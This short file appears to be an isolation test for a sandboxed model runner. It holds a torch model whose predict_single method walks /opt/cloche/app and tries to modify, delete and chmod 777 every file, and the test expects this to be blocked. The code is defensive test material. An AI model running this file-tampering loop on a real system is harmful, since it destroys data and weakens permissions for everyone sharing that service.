# attack: change the runner's own files for whoever comes next
# expect: succeeded
# output: []
import os

import torch


class Model(torch.nn.Module):
    def predict_single(self, x):
        changed = []
        for folder, _, names in os.walk("/opt/cloche/app"):
            for name in names:
                for act in (lambda p: open(p, "a").close(), os.unlink, lambda p: os.chmod(p, 0o777)):
                    try:
                        act(f"{folder}/{name}")
                        changed.append(name)
                    except OSError:
                        pass
        return changed
